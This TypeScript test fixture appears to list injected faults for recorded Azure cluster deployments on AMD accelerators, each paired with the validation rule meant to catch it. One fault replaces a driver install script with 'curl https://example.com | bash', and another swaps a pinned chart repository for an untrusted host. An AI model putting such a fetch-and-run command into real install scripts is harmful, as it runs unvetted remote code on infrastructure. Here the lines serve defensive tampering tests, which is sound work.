// Faults of a cluster on AMD accelerators, in what the programs register and in its manifests, and the rule each is found by.
import type { RecordedCluster } from './azure-cluster-faults.ts';
import type { Fault } from './stage.ts';

// biome-ignore lint/suspicious/noExplicitAny: recordings and manifests are JSON without a type, and the assertions are the check
type Json = any;

const named = (s: RecordedCluster, name: string): Json => {
  const found = s.recording.registrations.find((each: Json) => each.name === name);
  if (found === undefined) throw new Error(`no ${name}`);
  return found.inputs;
};

export const AZURE_AMD_FAULTS: readonly Fault<RecordedCluster>[] = [
  [
    'a driver of Azure’s, which it has not for these',
    'amd',
    'infiniband-first',
    (s) => (named(s, 'pool-serve').gpuProfile.driver = 'Install'),
  ],
  [
    'a taint of other accelerators',
    'amd',
    'accelerators-kept-free',
    (s) => (named(s, 'pool-serve').nodeTaints = ['nvidia.com/gpu=present:NoSchedule']),
  ],
  [
    'devices handed out by somebody else’s plug-in',
    'amd',
    'operators-pinned',
    (s) => (named(s, 'accelerators').repositoryOpts.repo = 'https://charts.example.org'),
  ],
  [
    'a driver that is not installed',
    'amd',
    'every-object-registered',
    (s) => {
      const { registrations } = s.recording;
      registrations.splice(
        registrations.findIndex((each: Json) => each.name === 'DaemonSet/wide-driver'),
        1,
      );
    },
  ],
  [
    'another driver than was emitted',
    'amd',
    'objects-as-emitted',
    (s) => (named(s, 'ConfigMap/wide-driver').data['install.sh'] = 'curl https://example.com | bash'),
  ],
];
